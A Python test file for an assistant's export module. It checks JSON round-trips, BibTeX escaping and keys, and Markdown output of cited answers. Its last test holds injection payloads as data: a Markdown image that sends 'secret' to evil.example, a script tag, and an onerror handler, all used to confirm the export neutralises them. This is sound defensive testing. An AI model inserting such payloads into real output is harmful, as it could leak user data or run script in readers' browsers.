"""Answers leave the house: JSON that comes back whole, Markdown that runs nothing, BibTeX that a parser reads."""

from __future__ import annotations

import json
from datetime import date

import bibtexparser
import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.answers import Answer, Citation, Passage, Usage, Verdict
from assistant.export import (
    answer_as_dict,
    answer_from_dict,
    answer_markdown,
    bibtex,
    bibtex_key,
    cited_papers,
    conversation_markdown,
    harmless,
    paper_as_dict,
)
from ingest.papers import Paper, Source, paper_id


def _paper(title: str, **fields: object) -> Paper:
    abstract = "We study it. It gains 4.3% & more."
    return Paper(paper_id(title), title, abstract, **fields)  # type: ignore[arg-type]


LANTERN = _paper(
    'τ-Lantern: 100% of {Braces} & $Costs_1$ in T\\"UL',
    listed=date(2025, 6, 1),
    authors=("Ada Lovelace", "Smith, John", "Sun and Moon"),
    organization="Lab #1",
    arxiv_id="2506.00001",
    sources=(Source("page.txt", 3),),
)
PLAIN = _paper("A Plain Paper on Lamps", authors_count=1)


def _answer(*papers: Paper) -> Answer:
    citations = tuple(Citation(n, p, "It gains 4.3% & more.", 13, 34) for n, p in enumerate(papers, start=1))
    text = " ".join(f"It gains 4.3% [{c.number}]." for c in citations)
    passages = tuple(Passage(p, p.abstract, 0, len(p.abstract), 0.5, dense=0.4) for p in papers)
    return Answer(
        "how much?",
        text,
        True,
        0.9,
        citations,
        passages,
        seconds={"total": 0.1},
        notes=("one note",),
        usage=Usage(9, 3),
    )


def test_json_names_every_field_and_comes_back_whole() -> None:
    answer = _answer(LANTERN, PLAIN)
    values = json.loads(json.dumps(answer_as_dict(answer)))
    assert values["citations"][0]["paper"]["listed"] == "2025-06-01"
    assert values["citations"][0]["verdict"] == "supported"
    assert answer_from_dict(values) == answer


def test_a_dict_that_is_no_answer_is_refused() -> None:
    with pytest.raises(ValueError, match="citations"):
        answer_from_dict({"question": "x", "text": "y", "answered": True, "confidence": 1.0, "citations": 3})


def test_bibtex_holds_exactly_the_cited_papers_once_each() -> None:
    answers = [_answer(PLAIN), _answer(LANTERN, PLAIN)]
    entries = bibtexparser.loads(bibtex(cited_papers(answers))).entries
    assert [entry["ID"] for entry in entries] == [bibtex_key(PLAIN), bibtex_key(LANTERN)]


def test_bibtex_of_awkward_characters_is_read_by_a_parser() -> None:
    entry = bibtexparser.loads(bibtex([LANTERN])).entries[0]
    assert r"100{\%} of {\textbraceleft}Braces{\textbraceright} {\&} {\$}Costs{\_}1{\$}" in entry["title"]
    assert r"{\ensuremath{\tau}}-Lantern" in entry["title"]
    assert entry["author"] == "Ada Lovelace and Smith, John and {Sun and Moon}"
    assert (entry["year"], entry["month"], entry["eprint"]) == ("2025", "June", "2506.00001")
    assert entry["url"] == "https://arxiv.org/abs/2506.00001"
    assert entry["note"] == r"Lab {\#}1"


def test_an_unknown_author_list_is_left_out_and_counted_in_the_note() -> None:
    entry = bibtexparser.loads(bibtex([PLAIN])).entries[0]
    assert "author" not in entry
    assert entry["note"] == "1 author"


@given(st.lists(st.text(min_size=1), min_size=1, max_size=8, unique_by=paper_id))
def test_any_titles_give_as_many_entries_with_keys_of_their_own(titles: list[str]) -> None:
    papers = [_paper(title) for title in titles]
    text = bibtex(papers)
    keys = [line[6:-1] for line in text.splitlines() if line.startswith("@misc{")]
    assert len(keys) == len(set(keys)) == len({paper.id for paper in papers})
    assert [bibtex_key(paper) for paper in papers] == [bibtex_key(paper) for paper in papers]
    assert all(key.replace("-", "").isalnum() and key.isascii() for key in keys)
    assert _balanced(text)


def _balanced(text: str) -> bool:
    depth = 0
    for char in text:
        depth += (char == "{") - (char == "}")
        if depth < 0:
            return False
    return depth == 0


def test_a_key_does_not_change_when_the_paper_gains_a_date() -> None:
    assert bibtex_key(PLAIN) == bibtex_key(_paper(PLAIN.title, listed=date(2025, 1, 1)))


def test_markdown_names_the_sources_with_their_quotes() -> None:
    text = answer_markdown(_answer(PLAIN))
    assert "It gains 4.3% [1]." in text
    assert "- [1] **A Plain Paper on Lamps**" in text
    assert "“It gains 4.3% & more.”" in text


def test_markdown_says_which_sentence_is_not_borne_out() -> None:
    citation = Citation(1, PLAIN, "We study it.", 0, 12, verdict=Verdict.UNSUPPORTED)
    answer = Answer("q", "It wins 99% [1].", True, 0.5, (citation,))
    assert "not borne out" in answer_markdown(answer)


UGLY = {
    "image": "![x](https://evil.example/?q=secret)",
    "script": "<script>alert(1)</script>",
    "handler": '<img src=x onerror="alert(1)">',
    "reference-image": "![x][y]\n\n[y]: https://evil.example/i.png",
}


@pytest.mark.parametrize("text", UGLY.values(), ids=UGLY)
def test_exported_markdown_fetches_nothing_and_runs_nothing(text: str) -> None:
    from markdown_it import MarkdownIt

    paper = _paper(text)
    citation = Citation(1, paper, text, 0, 0)
    document = conversation_markdown(text, [Answer(text, f"{text} [1]", True, 0.5, (citation,))])
    html = MarkdownIt("commonmark").render(document)
    assert "<img" not in html
    assert "<script" not in html
    assert "![" not in harmless(text)


def test_a_paper_as_json_keeps_its_sources() -> None:
    assert paper_as_dict(LANTERN)["sources"] == [{"page": "page.txt", "position": 3}]
